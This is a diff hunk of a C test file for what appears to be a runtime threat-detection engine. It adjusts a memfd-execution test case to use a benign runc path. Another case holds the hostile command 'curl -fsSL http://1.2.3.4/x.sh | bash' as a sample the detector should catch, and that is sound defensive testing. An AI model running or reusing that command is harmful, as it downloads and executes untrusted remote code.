@@ -522,7 +522,7 @@ static const struct pack_case pack_cases[] = {
 	  "{\"evt.type\":\"execve\",\"proc.name\":\"x\",\"proc.exepath\":\"/tmpfiles/run\"," CT "}" },
 	{ "exec.memfd",
 	  "{\"evt.type\":\"execve\",\"proc.name\":\"x\",\"proc.exepath\":\"/memfd:payload (deleted)\",\"proc.is_exe_from_memfd\":true," CT "}",
-	  "{\"evt.type\":\"execve\",\"proc.name\":\"x\",\"proc.exepath\":\"/usr/bin/memfd-test\"," CT "}" },
+	  "{\"evt.type\":\"execve\",\"proc.name\":\"runc:[2:INIT]\",\"proc.exepath\":\"/memfd:runc_cloned:/proc/self/exe (deleted)\",\"proc.is_exe_from_memfd\":true," CT "}" },
 	{ "dropper.curl-pipe-sh",
 	  "{\"evt.type\":\"execve\",\"proc.name\":\"sh\",\"proc.cmdline\":\"sh -c curl -fsSL http://1.2.3.4/x.sh | bash\"," CT "}",
 	  "{\"evt.type\":\"execve\",\"proc.name\":\"sh\",\"proc.cmdline\":\"sh -c curl -fsSL http://1.2.3.4/x.json | jq .shell\"," CT "}" },
